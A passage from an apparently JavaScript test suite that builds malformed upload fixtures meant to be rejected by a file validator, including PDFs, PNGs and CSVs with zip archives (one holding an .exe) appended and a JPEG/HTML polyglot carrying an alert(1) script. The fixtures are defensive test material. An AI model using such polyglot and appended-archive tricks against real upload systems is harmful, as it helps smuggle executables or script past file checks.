      '/Type /ObjStm /N 1 /First 4 ',
    ),
  ]),
  'boleto.pdf',
]);
bad.push([
  'pdf with zip appended',
  Buffer.concat([pdfText(['<< /Type /Catalog >>']), zip({ 'a.exe': exe() })]),
  'boleto.pdf',
]);
bad.push(['png with zip appended', Buffer.concat([png(), zip({ 'a.exe': exe() })]), 'print.png']);
bad.push([
  'jpeg html polyglot',
  Buffer.concat([jpeg().subarray(0, 6), u('<html><script>alert(1)</script>')]),
  'foto.jpg',
]);
bad.push(['csv with zip appended', Buffer.concat([u('a;b\n1;2\n'), zip({ 'a.txt': 'x' })]), 'pedidos.csv']);
